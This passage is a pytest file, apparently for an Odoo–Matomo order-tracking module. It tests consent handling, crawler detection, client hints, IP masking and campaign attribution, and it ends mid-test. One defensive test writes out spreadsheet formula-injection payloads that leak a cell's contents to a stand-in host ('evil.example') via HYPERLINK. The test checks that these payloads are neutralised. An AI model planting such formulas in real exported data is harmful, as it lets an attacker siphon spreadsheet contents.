"""``tools.shopper``: what is read from a request and stored on an order."""

import json
from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from matomo_order_tracking.matomo_api.browser import FLAGS
from matomo_order_tracking.tools import shopper
from matomo_order_tracking.tools.shopper import (
    Consent,
    HttpRequest,
    ShopperPolicy,
    Visit,
    follow_arrival,
    follow_visitor,
    is_cookie_bar_answered,
    is_visitor_known,
    mask_ip_address,
    merge_visit,
    prepare_visitor_cookie,
    read_consent,
    read_metadata,
    read_shown_page,
    read_visit,
)

# 2025-11-13 02:13:20 UTC
NOW = 1_763_000_000.75
VISITOR, OTHER = "0123456789abcdef", "fedcba9876543210"
POLICY = ShopperPolicy(idsite=1, consent="elsewhere")
YES = Consent(True, "cookie_bar")
NO = Consent(False, "cookie_bar")
SILENCE = Consent(None, "not_answered")
EMPTY = dict.fromkeys(
    (
        "matomo_ip_address",
        "matomo_user_agent",
        "matomo_accept_language",
        "matomo_client_hints",
        "matomo_browser_flags",
        "matomo_visitor_id",
        "matomo_user_id",
        "matomo_attribution_info",
    ),
    False,
)


def make_request(headers=None, cookies=None, **values):
    return HttpRequest(headers or {}, cookies or {}, NOW, **values)


def make_metadata(**values):
    """Return an order's metadata; the names come without their prefix."""
    return EMPTY | {f"matomo_{name}": value for name, value in values.items()}


# === CONSENT === #

REFUSED = {"mtm_consent_removed": "1763000000000"}
AGREED = {"mtm_consent": "1763000000000"}
FOLLOWED = {"_pk_id.1.1fff": f"{VISITOR}.1763000000."}


@pytest.mark.parametrize(
    ("policy", "headers", "cookies", "clicked", "answer", "source"),
    [
        # The policy "never" asks nobody.
        ("never", {}, AGREED, True, False, "never"),
        ("never", {}, {}, None, False, "never"),
        # It is no refusal of the shopper, who may refuse all the same.
        ("never", {"DNT": "1"}, {}, None, False, "do_not_track"),
        ("never", {}, REFUSED, None, False, "matomo_cookie"),
        ("never", {}, {}, False, False, "cookie_bar"),
        # A signal of the browser comes before every click.
        ("cookie_bar", {"DNT": "1"}, AGREED, True, False, "do_not_track"),
        ("cookie_bar", {"Sec-GPC": "1"}, {}, True, False, "do_not_track"),
        ("elsewhere", {"DNT": "1"}, {}, None, False, "do_not_track"),
        ("cookie_bar", {"DNT": "0", "Sec-GPC": "?1"}, {}, True, True, "cookie_bar"),
        # Matomo's refusal comes before the cookie bar, its consent after.
        ("cookie_bar", {}, REFUSED, True, False, "matomo_cookie"),
        ("elsewhere", {}, REFUSED, None, False, "matomo_cookie"),
        ("cookie_bar", {}, AGREED, False, False, "cookie_bar"),
        ("cookie_bar", {}, AGREED, True, True, "matomo_cookie"),
        ("cookie_bar", {}, AGREED, None, True, "matomo_cookie"),
        # "elsewhere" does not ask the cookie bar.
        ("elsewhere", {}, {}, False, True, "elsewhere"),
        ("elsewhere", {}, AGREED, None, True, "elsewhere"),
        # Matomo's visitor ID is the yes, its absence is no answer. A no comes first.
        ("matomo_cookie", {}, FOLLOWED, None, True, "visitor_cookie"),
        ("matomo_cookie", {}, FOLLOWED, True, True, "visitor_cookie"),
        ("matomo_cookie", {}, {}, None, None, "no_visitor_cookie"),
        ("matomo_cookie", {}, {}, True, None, "no_visitor_cookie"),
        ("matomo_cookie", {}, AGREED, None, None, "no_visitor_cookie"),
        ("matomo_cookie", {}, {"_pk_id.2.1fff": VISITOR}, None, None)
        + ("no_visitor_cookie",),
        ("matomo_cookie", {}, {"_pk_id.1.1fff": "x"}, None, None, "no_visitor_cookie"),
        ("matomo_cookie", {}, FOLLOWED, False, False, "cookie_bar"),
        ("matomo_cookie", {}, FOLLOWED | REFUSED, None, False, "matomo_cookie"),
        ("matomo_cookie", {"DNT": "1"}, FOLLOWED, None, False, "do_not_track"),
        # Without cookies nobody is asked, and anybody may object.
        ("cookieless", {}, {}, None, True, "cookieless"),
        ("cookieless", {}, FOLLOWED | AGREED, True, True, "cookieless"),
        ("cookieless", {}, {}, False, False, "cookie_bar"),
        ("cookieless", {}, REFUSED, None, False, "matomo_cookie"),
        ("cookieless", {"Sec-GPC": "1"}, {}, None, False, "do_not_track"),
        # The cookie bar.
        ("cookie_bar", {}, {}, False, False, "cookie_bar"),
        ("cookie_bar", {}, {}, True, True, "cookie_bar"),
        ("cookie_bar", {}, {}, None, None, "not_answered"),
    ],
)
def test_consent(policy, headers, cookies, clicked, answer, source):
    request = make_request(headers, cookies, has_cookie_bar=True, clicked=clicked)
    policy = replace(POLICY, consent=policy)
    assert read_consent(request, policy) == Consent(answer, source)


@pytest.mark.parametrize("clicked", [True, False, None])
def test_a_click_counts_only_while_the_cookie_bar_is_on(clicked):
    request = make_request(clicked=clicked)
    policy = replace(POLICY, consent="cookie_bar")
    assert read_consent(request, policy) == Consent(None, "not_asked")
    agreed = replace(request, cookies=AGREED)
    assert read_consent(agreed, policy) == Consent(True, "matomo_cookie")


def test_do_not_track_is_a_setting():
    request = make_request({"DNT": "1", "Sec-GPC": "1"})
    policy = replace(POLICY, respect_dnt=False)
    assert read_consent(request, policy) == Consent(True, "elsewhere")


@pytest.mark.parametrize(
    ("cookie", "is_answered"),
    [
        ('{"required":true,"optional":false}', True),
        ("{}", True),
        # Odoo before version 16 wrote this; the shopper is asked again.
        ("true", False),
        ('"optional"', False),
        ("null", False),
        ("[]", False),
        ("", False),
        ("{", False),
        ("[" * 100_000, False),
        ("9" * 5000, False),
        ("<script>", False),
    ],
)
def test_answer_in_the_cookie_bar(cookie, is_answered):
    assert is_cookie_bar_answered({"website_cookies_bar": cookie}) is is_answered


def test_no_answer_in_the_cookie_bar():
    assert not is_cookie_bar_answered({})


@pytest.mark.parametrize(
    ("headers", "cookies", "may_refuse"),
    [
        ({}, {}, False),
        ({"DNT": "0", "Sec-GPC": "?1"}, {}, False),
        ({"DNT": "1"}, {}, True),
        ({"Sec-GPC": "1"}, {}, True),
        ({}, REFUSED, True),
        ({}, AGREED, False),
        ({}, {"website_cookies_bar": '{"required":true,"optional":false}'}, True),
        ({}, {"website_cookies_bar": '{"required":true,"optional":true}'}, False),
        ({}, {"website_cookies_bar": "{}"}, True),
        ({}, {"website_cookies_bar": "[" * 100_000}, False),
    ],
)
def test_may_refuse(headers, cookies, may_refuse):
    assert shopper.may_refuse(headers, cookies) is may_refuse


@pytest.mark.parametrize(
    ("answer", "source", "is_refusal"),
    [
        (False, "cookie_bar", True),
        (False, "do_not_track", True),
        (False, "never", False),
        (True, "cookie_bar", False),
        (None, "not_answered", False),
        (None, None, False),
    ],
)
def test_is_refusal(answer, source, is_refusal):
    assert Consent(answer, source).is_refusal is is_refusal


# === BROWSERS WITHOUT COOKIES === #

COOKIELESS = ShopperPolicy(idsite=1, consent="cookieless")
FEATURES = {name: "0" for name in FLAGS} | {"pdf": "1", "cookie": "1"}


@pytest.mark.parametrize(
    ("policy", "headers", "is_kept"),
    [
        (COOKIELESS, {}, True),
        (COOKIELESS, {"DNT": "1"}, False),
        (POLICY, {}, False),
        (ShopperPolicy(1, "never"), {}, False),
        (ShopperPolicy(1, "cookie_bar"), {}, False),
        (ShopperPolicy(1, "matomo_cookie"), {}, False),
    ],
)
def test_features_are_kept_only_without_cookies(policy, headers, is_kept):
    body = b'{"pdf":1,"cookie":1}'
    kept = shopper.read_features(make_request(headers), policy, body)
    assert kept == (FEATURES | {"time": int(NOW)} if is_kept else {})
    assert shopper.read_features(make_request(headers), policy, b"{}") == {}


@pytest.mark.parametrize(
    ("age", "policy", "is_known"),
    [
        (0, COOKIELESS, True),
        (1800, COOKIELESS, True),
        # The visit is over.
        (2101, COOKIELESS, False),
        # The policy has changed since.
        (0, POLICY, False),
    ],
)
def test_features_are_known_for_a_visit(age, policy, is_known):
    features = FEATURES | {"time": int(NOW) - age}
    metadata = read_metadata(make_request(features=features), policy)
    assert metadata["matomo_browser_flags"] == (features if is_known else False)


def test_the_next_visit_of_a_browser_without_cookies_is_news():
    yes = Consent(True, "cookieless")
    old = make_metadata(user_agent="Firefox", browser_flags=FEATURES | {"time": 1})
    new = make_metadata(user_agent="Firefox", browser_flags=FEATURES | {"time": 2})
    receipt = {"answer": True, "source": "cookieless"}
    changed = {"matomo_browser_flags": FEATURES | {"time": 2}}
    assert merge_visit(old, receipt, Visit(yes, NOW, new)) == changed
    # Another browser pays, or the tag has not told its features yet.
    for current in (
        new | {"matomo_user_agent": "Chrome"},
        new | {"matomo_browser_flags": False},
    ):
        assert merge_visit(old, receipt, Visit(yes, NOW, current)) == {}


# === CRAWLERS === #

IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15"


@pytest.mark.parametrize(
    ("user_agent", "is_crawler"),
    [
        ("Mozilla/5.0 (X11; Linux x86_64) Chrome/130.0.0.0 Safari/537.36", False),
        (f"{IPHONE} Mobile/15E148 Instagram 330.0.3.29.91 (iPhone14,3; iOS)", False),
        (f"{IPHONE} Mobile/15E148 [Pinterest/iOS]", False),
        (f"{IPHONE} Mobile/15E148 WhatsApp/2.24.10.79 i", False),
        (f"{IPHONE} [FBAN/FBIOS;FBAV/463.0.0.30.109]", False),
        ("Mozilla/5.0 (Linux; Android 9; CUBOT_X19 Build/PPR1) Chrome/130.0", False),
        ("Mozilla/5.0 (Linux; Android 11; CUBOT NOTE 20) Chrome/130.0", False),
        ("Mozilla/5.0 (Linux; Android 14; Preview) Chrome/130.0", False),
        ("", False),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot)", True),
        ("Mozilla/5.0 (compatible; Somebot/2.1)", True),
        ("Mozilla/5.0 AppleWebKit/537.36 (compatible; GPTBot/1.2)", True),
        ("Googlebot-Image/1.0", True),
        ("TelegramBot (like TwitterBot)", True),
        ("Mozilla/5.0 (compatible; Baiduspider/2.0)", True),
        ("Mozilla/5.0 (compatible; Yahoo! Slurp)", True),
        ("facebookexternalhit/1.1", True),
        ("Pinterest/0.2 (+https://www.pinterest.com/bot.html)", True),
        ("WhatsApp/2.23.20.0 A", True),
        ("Mozilla/5.0 (Windows NT 6.1) BingPreview/1.0b", True),
        ("curl/8.5.0", True),
        ("python-requests/2.31.0", True),
        ("x" * 100_000 + "bot", False),
    ],
)
def test_crawlers(user_agent, is_crawler):
    assert shopper.is_crawler({"User-Agent": user_agent}) is is_crawler


def test_no_name_is_no_crawler():
    assert not shopper.is_crawler({})


@pytest.mark.parametrize(
    ("headers", "is_prefetched"),
    [
        # Chromium: a link, the address bar, speculation rules, Google's proxy.
        ({"Sec-Purpose": "prefetch"}, True),
        ({"Sec-Purpose": "prefetch;prerender"}, True),
        ({"Sec-Purpose": "Prefetch; anonymous-client-ip"}, True),
        ({"Sec-Purpose": "prefetch;prerender;preview"}, True),
        # Older Chromium and Safari, and Safari's favourites.
        ({"Purpose": "prefetch"}, True),
        ({"Purpose": "preview"}, True),
        ({"X-Purpose": "preview"}, True),
        # Older Firefox.
        ({"X-Moz": "prefetch"}, True),
        ({}, False),
        ({"Sec-Purpose": ""}, False),
        ({"Purpose": "navigate", "Sec-Fetch-Dest": "document"}, False),
        ({"User-Agent": "prefetch"}, False),
    ],
)
def test_prefetched(headers, is_prefetched):
    assert shopper.is_prefetched(headers) is is_prefetched


# === METADATA === #


def test_nothing_is_read_from_the_browsers_storage_without_cookies():
    request = make_request(
        {"User-Agent": "Mozilla/5.0"},
        FOLLOWED | {"_pk_ref.1.1fff": '["spring","chair",1763000000,""]'},
        arrival={
            "campaign": "spring",
            "keyword": "",
            "timestamp": int(NOW),
            "referrer": "",
            "seen": int(NOW),
        },
    )
    policy = replace(POLICY, consent="cookieless")
    visit = read_visit(request, policy)
    assert visit.metadata == make_metadata(user_agent="Mozilla/5.0")
    assert not shopper.may_keep_arrival(visit.consent, policy)
    assert shopper.may_keep_arrival(YES, POLICY)
    assert not shopper.may_keep_arrival(SILENCE, POLICY)


def test_visit():
    request = make_request(
        {
            "User-Agent": "Mozilla/5.0",
            "Accept-Language": "nl-BE,nl;q=0.9",
            "Sec-CH-UA": '"Chromium";v="130", "Not?A_Brand";v="99"',
            "Sec-CH-UA-Mobile": "?1",
            "Sec-CH-UA-Platform": '"Linux"',
        },
        {
            "_pk_id.1.1fff": f"{VISITOR}.1763000000.",
            "_pk_id.2.1fff": f"{OTHER}.1763000000.",
            "_pk_ref.1.1fff": '["spring","chair",1763000000,"https://example.com/"]',
        },
        remote_addr="203.0.113.9",
    )
    visit = read_visit(request, POLICY)
    hints = json.loads(visit.metadata.pop("matomo_client_hints"))
    assert visit == Visit(
        consent=Consent(True, "elsewhere"),
        time=NOW,
        metadata={
            "matomo_ip_address": "203.0.113.9",
            "matomo_user_agent": "Mozilla/5.0",
            "matomo_accept_language": "nl-BE,nl;q=0.9",
            "matomo_browser_flags": False,
            "matomo_visitor_id": VISITOR,
            "matomo_user_id": False,
            "matomo_attribution_info": {
                "campaign": "spring",
                "keyword": "chair",
                "timestamp": 1763000000,
                "referrer": "https://example.com/",
            },
        },
    )
    assert hints == {
        "brands": [
            {"brand": "Chromium", "version": "130"},
            {"brand": "Not?A_Brand", "version": "99"},
        ],
        "mobile": True,
        "platform": "Linux",
    }


def test_a_shopper_who_is_logged_in():
    request = make_request(user_id="7")
    assert read_metadata(request, POLICY) == EMPTY | {"matomo_user_id": "7"}


# A page that was prerendered, as the tag tells it when it is shown.
SHOWN = {
    "url": "https://shop.example.com/shop?utm_campaign=x",
    "referrer": "https://n.org/",
}


def test_a_page_that_was_prerendered():
    request = make_request(
        method="POST", host="shop.example.com", headers={"Sec-Fetch-Dest": "empty"}
    )
    told = read_shown_page(request, json.dumps(SHOWN).encode())
    arrival = follow_arrival(told)
    assert (arrival["campaign"], arrival["referrer"]) == ("x", "https://n.org/")


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"[]",
        b"null",
        b"[" * 20_000,
        b"\xff",
        json.dumps({"url": SHOWN["url"]}).encode(),
        json.dumps({**SHOWN, "referrer": None}).encode(),
        json.dumps({**SHOWN, "url": 7}).encode(),
        json.dumps({**SHOWN, "url": ["https://shop.example.com/"]}).encode(),
        json.dumps(
            {**SHOWN, "url": "https://other.example.com/?pk_campaign=x"}
        ).encode(),
    ],
)
def test_no_page_that_was_prerendered(body):
    request = make_request(method="POST", host="shop.example.com")
    assert read_shown_page(request, body) is None


def test_a_request_that_says_nothing():
    assert read_metadata(make_request(), POLICY) == EMPTY


@pytest.mark.parametrize(
    ("clicked", "is_read"), [(True, True), (False, False), (None, False)]
)
def test_nothing_is_read_without_consent(clicked, is_read):
    request = make_request(
        {"User-Agent": "Mozilla/5.0"},
        {"_pk_id.1.1fff": f"{VISITOR}.1763000000."},
        remote_addr="203.0.113.9",
        has_cookie_bar=True,
        clicked=clicked,
    )
    visit = read_visit(request, replace(POLICY, consent="cookie_bar"))
    assert bool(visit.metadata) is is_read


# === WHERE THE SHOPPER COMES FROM === #

HOST = "shop.example.com"
LANDING = f"https://{HOST}/shop?utm_campaign=spring&utm_term=chair"
GOOGLE = "https://www.google.com/"
NEWS = "https://news.example.org/"
MINUTE = 60
KEPT = {"campaign": "autumn", "keyword": "", "referrer": NEWS}


def come(url=f"https://{HOST}/shop", referrer="", headers=None, **values):
    headers = {"Referer": referrer} | (headers or {})
    return make_request(headers, host=HOST, url=url, **values)


def kept(minutes):
    """Return an earlier arrival of a visit that was noticed so many minutes ago."""
    moment = int(NOW) - minutes * MINUTE
    return KEPT | {"timestamp": moment, "seen": moment}


def new(campaign="", keyword="", referrer=""):
    moment = int(NOW)
    return {
        "campaign": campaign,
        "keyword": keyword,
        "timestamp": moment,
        "referrer": referrer,
        "seen": moment,
    }


@pytest.mark.parametrize(
    ("request_", "arrival"),
    [
        (come(), {}),
        (come(LANDING), new("spring", "chair")),
        (come(referrer=GOOGLE), new(referrer=GOOGLE)),
        (come(LANDING, GOOGLE), new("spring", "chair", GOOGLE)),
        (come(referrer=f"https://{HOST}/"), {}),
        # An image, a script's call, a form and a page that nobody sees are no arrival.
        (come(LANDING, GOOGLE, {"Sec-Fetch-Dest": "image"}), {}),
        (come(LANDING, GOOGLE, {"Sec-Purpose": "prefetch;prerender"}), {}),
        (come(referrer=LANDING, headers={"X-Moz": "prefetch"}), {}),
        (come(LANDING, GOOGLE, routing_type="jsonrpc"), {}),
        (come(LANDING, GOOGLE, method="POST"), {}),
        # The shopper has agreed on the landing page, which this request names.
        (come(referrer=LANDING), new("spring", "chair")),
        (come(referrer=LANDING, routing_type="jsonrpc"), new("spring", "chair")),
        # Within a visit nothing is replaced, not even by the provider of a payment.
        (come(LANDING, GOOGLE, arrival=kept(5)), kept(5)),
        (come(referrer=GOOGLE, arrival={"seen": int(NOW) - 300}), "same"),
        (come(LANDING, GOOGLE, arrival=kept(34)), kept(34)),
        # A later visit replaces it, as in matomo.js, if it comes from somewhere.
        (come(LANDING, GOOGLE, arrival=kept(36)), new("spring", "chair", GOOGLE)),
        (come(referrer=GOOGLE, arrival=kept(36)), new(referrer=GOOGLE)),
        (come(LANDING, arrival=kept(36)), new("spring", "chair", NEWS)),
        (come(arrival=kept(36)), kept(36)),
        (come(referrer=LANDING, arrival=kept(36)), kept(36)),
    ],
)
def test_arrival(request_, arrival):
    found = shopper.follow_arrival(request_)
    assert found == (request_.arrival if arrival == "same" else arrival)


@pytest.mark.parametrize(
    ("arrival", "seen"),
    [({}, NOW), (kept(1), NOW - MINUTE), (kept(6), NOW), (kept(50), NOW)],
)
def test_a_visit_goes_on(arrival, seen):
    request = come(arrival=arrival)
    assert shopper.continue_visit(request) == {**arrival, "seen": int(seen)}


@pytest.mark.parametrize(
    ("cookies", "arrival", "campaign"),
    [
        ({}, {}, "spring"),
        ({}, kept(5), "autumn"),
        ({}, {"seen": int(NOW)}, None),
        # matomo.js knows better.
        ({"_pk_ref.1.1fff": '["summer","",1763000000,""]'}, kept(5), "summer"),
        # It forgets after six months.
        ({}, kept(182 * 24 * 60) | {"seen": int(NOW)}, "autumn"),
        ({}, kept(183 * 24 * 60) | {"seen": int(NOW)}, None),
    ],
)
def test_attribution_without_the_script(cookies, arrival, campaign):
    request = replace(come(LANDING, arrival=arrival), cookies=cookies)
    info = read_metadata(request, POLICY)["matomo_attribution_info"]
    assert (info["campaign"] if info else None) == campaign


@pytest.mark.parametrize("clicked", [False, None])
def test_no_attribution_without_consent(clicked):
    request = come(LANDING, GOOGLE, has_cookie_bar=True, clicked=clicked)
    policy = replace(POLICY, consent="cookie_bar")
    assert read_visit(request, policy).metadata == {}


# === ADDRESSES === #


@pytest.mark.parametrize(
    ("remote_addr", "mask", "stored"),
    [
        ("203.0.113.9", 0, "203.0.113.9"),
        ("203.0.113.9", 1, "203.0.113.0"),
        ("203.0.113.9", 2, "203.0.0.0"),
        ("203.0.113.9", 3, "203.0.0.0"),
        ("2001:DB8:0:0::1", 0, "2001:db8::1"),
        ("2001:db8:1:2:3:4:5:6", 1, "2001:db8:1:2::"),
        ("2001:db8:1:2:3:4:5:6", 2, "2001:db8:1::"),
        ("2001:db8:1:2:3:4:5:6", 3, "2001:d00::"),
        ("::ffff:203.0.113.9", 0, "203.0.113.9"),
        ("::ffff:203.0.113.9", 1, "203.0.113.0"),
        # The zone of an address can be any text.
        ("fe80::1%<script>", 0, "fe80::1"),
        ("unknown", 1, False),
        ("203.0.113.9, 198.51.100.1", 1, False),
        ("", 0, False),
        (None, 0, False),
    ],
)
def test_ip_address(remote_addr, mask, stored):
    request = make_request(remote_addr=remote_addr)
    visit = read_visit(request, replace(POLICY, ip_mask=mask))
    assert visit.metadata["matomo_ip_address"] == stored


@pytest.mark.parametrize(
    ("address", "byte_count", "masked"),
    [
        ("192.168.100.7", 0, "192.168.100.7"),
        ("192.168.100.7", 1, "192.168.100.0"),
        ("192.168.100.7", 2, "192.168.0.0"),
        ("192.168.100.7", 3, "192.0.0.0"),
        ("2001:db8:1:2:3:4:5:6", 0, "2001:db8:1:2:3:4:5:6"),
        ("2001:db8:1:2:3:4:5:6", 1, "2001:db8:1:2::"),
        ("2001:db8:1:2:3:4:5:6", 2, "2001:db8:1::"),
        ("2001:db8:1:2:3:4:5:6", 3, "2001:d00::"),
        ("::ffff:192.168.100.7", 2, "::ffff:192.168.0.0"),
        ("fe80::1%eth0", 1, "fe80::"),
    ],
)
def test_addresses_are_masked_as_matomo_masks_them(address, byte_count, masked):
    assert mask_ip_address(address, byte_count) == masked


@given(st.ip_addresses(), st.integers(1, 3))
def test_more_is_masked_with_more_bytes(ip, byte_count):
    once = mask_ip_address(str(ip), byte_count)
    assert mask_ip_address(once, byte_count) == once
    less = mask_ip_address(str(ip), byte_count - 1)
    assert mask_ip_address(less, byte_count) == once


@pytest.mark.parametrize(
    ("headers", "platform", "is_mobile"),
    [
        ({}, "", False),
        ({"Sec-CH-UA-Mobile": "?0", "Sec-CH-UA-Platform": "Linux"}, "Linux", False),
        ({"Sec-CH-UA-Mobile": "yes", "Sec-CH-UA-Platform": '"\x00"'}, "", False),
        ({"Sec-CH-UA-Mobile": "?1", "Sec-CH-UA-Platform": "x" * 99}, "x" * 64, True),
    ],
)
def test_client_hints(headers, platform, is_mobile):
    headers = {"Sec-CH-UA": '"Chromium";v="130"', **headers}
    hints = json.loads(
        read_metadata(make_request(headers), POLICY)["matomo_client_hints"]
    )
    assert (hints["platform"], hints["mobile"]) == (platform, is_mobile)


def make_brands(*names_and_versions):
    return [{"brand": name, "version": version} for name, version in names_and_versions]


# What browsers really send: first without being asked, then asked by Accept-CH.
CHROME = {
    "Sec-CH-UA": '"Chromium";v="146", "Not-A.Brand";v="24", "Google Chrome";v="146"',
    "Sec-CH-UA-Mobile": "?0",
    "Sec-CH-UA-Platform": '"macOS"',
}
ANDROID = {"Sec-CH-UA-Mobile": "?1", "Sec-CH-UA-Platform": '"Android"'}


@pytest.mark.parametrize(
    ("headers", "hints"),
    [
        (
            CHROME,
            {
                "brands": make_brands(
                    ("Chromium", "146"), ("Not-A.Brand", "24"), ("Google Chrome", "146")
                ),
                "mobile": False,
                "platform": "macOS",
            },
        ),
        # matomo.js drops the brands where it has full versions; a desk has no model.
        (
            {
                **CHROME,
                "Sec-CH-UA-Full-Version-List": '"Chromium";v="146.0.7680.80", '
                '"Not-A.Brand";v="24.0.0.0", "Google Chrome";v="146.0.7680.80"',
                "Sec-CH-UA-Model": '""',
                "Sec-CH-UA-Platform-Version": '"15.3.1"',
            },
            {
                "fullVersionList": make_brands(
                    ("Chromium", "146.0.7680.80"),
                    ("Not-A.Brand", "24.0.0.0"),
                    ("Google Chrome", "146.0.7680.80"),
                ),
                "mobile": False,
                "platform": "macOS",
                "platformVersion": "15.3.1",
            },
        ),
        # Brave tells the main version as the full one.
        (
            {
                "Sec-CH-UA": '"Brave";v="137", "Chromium";v="137", '
                '"Not/A)Brand";v="24"',
                "Sec-CH-UA-Full-Version-List": '"Brave";v="137.0.0.0", '
                '"Chromium";v="137.0.0.0", "Not/A)Brand";v="24.0.0.0"',
                "Sec-CH-UA-Mobile": "?0",
                "Sec-CH-UA-Model": '""',
                "Sec-CH-UA-Platform": '"Windows"',
                "Sec-CH-UA-Platform-Version": '"19.0.0"',
            },
            {
                "fullVersionList": make_brands(
                    ("Brave", "137.0.0.0"),
                    ("Chromium", "137.0.0.0"),
                    ("Not/A)Brand", "24.0.0.0"),
                ),
                "mobile": False,
                "platform": "Windows",
                "platformVersion": "19.0.0",
            },
        ),
        # Edge on a phone.
        (
            {
                **ANDROID,
                "Sec-CH-UA": '"Microsoft Edge";v="129", "Not=A?Brand";v="8", '
                '"Chromium";v="129"',
                "Sec-CH-UA-Full-Version-List": '"Microsoft Edge";v="129.0.2792.84", '
                '"Not=A?Brand";v="8.0.0.0", "Chromium";v="129.0.6668.90"',
                "Sec-CH-UA-Model": '"Pixel 7"',
                "Sec-CH-UA-Platform-Version": '"14.0.0"',
            },
            {
                "fullVersionList": make_brands(
                    ("Microsoft Edge", "129.0.2792.84"),
                    ("Not=A?Brand", "8.0.0.0"),
                    ("Chromium", "129.0.6668.90"),
                ),
                "mobile": True,
                "platform": "Android",
                "model": "Pixel 7",
                "platformVersion": "14.0.0",
            },
        ),
        # Opera, with a brand of nobody that has a semicolon and begins with a space.
        (
            {
                "Sec-CH-UA": '"Opera";v="81", " Not;A Brand";v="99", "Chromium";v="95"',
                "Sec-CH-UA-Mobile": "?0",
                "Sec-CH-UA-Platform": '"Windows"',
            },
            {
                "brands": make_brands(
                    ("Opera", "81"), (" Not;A Brand", "99"), ("Chromium", "95")
                ),
                "mobile": False,
                "platform": "Windows",
            },
        ),
        # An application of a phone.
        (
            {
                **ANDROID,
                "Sec-CH-UA": '"Android WebView";v="131", "Chromium";v="131", '
                '"Not_A Brand";v="24"',
            },
            {
                "brands": make_brands(
                    ("Android WebView", "131"),
                    ("Chromium", "131"),
                    ("Not_A Brand", "24"),
                ),
                "mobile": True,
                "platform": "Android",
            },
        ),
        # A browser that is told to tell nothing answers with empty values.
        (
            {
                **CHROME,
                "Sec-CH-UA-Full-Version-List": '""',
                "Sec-CH-UA-Model": '""',
                "Sec-CH-UA-Platform-Version": '""',
            },
            {
                "brands": make_brands(
                    ("Chromium", "146"), ("Not-A.Brand", "24"), ("Google Chrome", "146")
                ),
                "mobile": False,
                "platform": "macOS",
            },
        ),
        # A stranger's header is cut before it becomes long JSON.
        (
            {"Sec-CH-UA": '"A";v="1"', "Sec-CH-UA-Model": "x" * 999},
            {
                "brands": make_brands(("A", "1")),
                "mobile": False,
                "platform": "",
                "model": "x" * 64,
            },
        ),
    ],
)
def test_client_hints_of_browsers(headers, hints):
    metadata = read_metadata(make_request(headers), POLICY)
    assert json.loads(metadata["matomo_client_hints"]) == hints


@pytest.mark.parametrize(
    ("headers", "values", "lacks_hints"),
    [
        (CHROME, {}, True),
        ({**CHROME, "Sec-CH-UA-Full-Version-List": '""'}, {}, False),
        # Firefox and Safari send no hints.
        ({}, {}, False),
        # Browsers ignore the header in the answer to a script.
        (CHROME, {"routing_type": "jsonrpc"}, False),
        ({**CHROME, "Sec-Fetch-Dest": "empty"}, {}, False),
    ],
)
def test_lacks_hints(headers, values, lacks_hints):
    assert shopper.lacks_hints(make_request(headers, **values)) is lacks_hints


@pytest.mark.parametrize("brands", ["", "Chromium", "''\"\"" * 100, '"";v=""'])
def test_no_client_hints(brands):
    headers = {"Sec-CH-UA": brands, "Sec-CH-UA-Platform": "Linux"}
    metadata = read_metadata(make_request(headers), POLICY)
    assert metadata["matomo_client_hints"] is False


def test_endless_client_hints_stay_json():
    headers = {"Sec-CH-UA": '"Chromium";v="130", ' * 1000}
    metadata = read_metadata(make_request(headers), POLICY)
    assert len(json.loads(metadata["matomo_client_hints"])["brands"]) < 20


def test_a_campaign_of_the_future_has_no_time():
    cookies = {"_pk_ref.1.1fff": '["spring","",1763000000,""]'}
    request = make_request(cookies=cookies)
    for time, timestamp in ((NOW, 1763000000), (NOW - 7 * 86_400, 0)):
        metadata = read_metadata(replace(request, time=time), POLICY)
        assert metadata["matomo_attribution_info"]["timestamp"] == timestamp


HEADERS = ("User-Agent", "Accept-Language", "Sec-CH-UA", "Sec-CH-UA-Platform")
COOKIES = (
    "_pk_id.1.1fff",
    "_pk_ref.1.1fff",
    "mtm_consent",
    "mtm_consent_removed",
    "website_cookies_bar",
)
LIMITS = {
    "matomo_ip_address": 45,
    "matomo_user_agent": 1024,
    "matomo_accept_language": 255,
    "matomo_client_hints": 4096,
    "matomo_visitor_id": 16,
}


@given(
    headers=st.dictionaries(st.sampled_from([*HEADERS, "DNT", "Sec-GPC"]), st.text()),
    cookies=st.dictionaries(st.sampled_from(COOKIES), st.text()),
    remote_addr=st.none() | st.text() | st.ip_addresses().map(str),
    policy=st.builds(
        ShopperPolicy,
        idsite=st.just(1),
        consent=st.sampled_from(
            ["cookie_bar", "matomo_cookie", "elsewhere", "cookieless", "never"]
        ),
        respect_dnt=st.booleans(),
        ip_mask=st.integers(0, 3),
    ),
    clicked=st.none() | st.booleans(),
)
def test_strangers_write_nothing_but_short_text(
    headers, cookies, remote_addr, policy, clicked
):
    request = make_request(
        headers, cookies, remote_addr=remote_addr, has_cookie_bar=True, clicked=clicked
    )
    visit = read_visit(request, policy)
    assert bool(visit.metadata) == (visit.consent.answer is True)
    for name, limit in LIMITS.items():
        text = visit.metadata.get(name, False)
        assert text is False or (0 < len(text) <= limit and "\x00" not in text)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r\n+", " \x00@", "=-="])
def test_a_shoppers_text_is_no_formula(start):
    """An exported order began with the formula that a stranger sent as their browser.

    Odoo writes a text that begins with "=" into an XLSX file as a formula.
    """
    formula = f'{start}HYPERLINK("https://evil.example/?"&A2)'
    request = make_request(
        {"User-Agent": formula, "Accept-Language": formula},
        {"_pk_ref.1.1fff": json.dumps([formula, formula, 1_762_999_999, ""])},
    )
    metadata = read_metadata(request, POLICY)
    attribution = metadata["matomo_attribution_info"]
    for text in (
        metadata["matomo_user_agent"],
        metadata["matomo_accept_language"],
        attribution["campaign"],
        attribution["keyword"],
    ):
        assert text.startswith("HYPERLINK")


# === WHAT THE ORDER KEEPS === #

RECEIPT = {"answer": True, "source": "cookie_bar", "date": "2025-11-01 10:00:00"}


@pytest.mark.parametrize(
    ("receipt", "consent", "is_new"),
    [
        (None, SILENCE, True),
        (None, YES, True),
        (False, NO, True),
        (RECEIPT, YES, False),
        (RECEIPT, NO, True),
        (RECEIPT, Consent(True, "matomo_cookie"), True),
        # On a second device the shopper has just not been asked yet.
        (RECEIPT, SILENCE, False),
        (RECEIPT | {"answer": False}, SILENCE, False),
        (RECEIPT | {"answer": False}, YES, True),
        # Silence of another kind: the cookie bar was switched on.
        (RECEIPT | {"answer": None, "source": "not_asked"}, SILENCE, True),
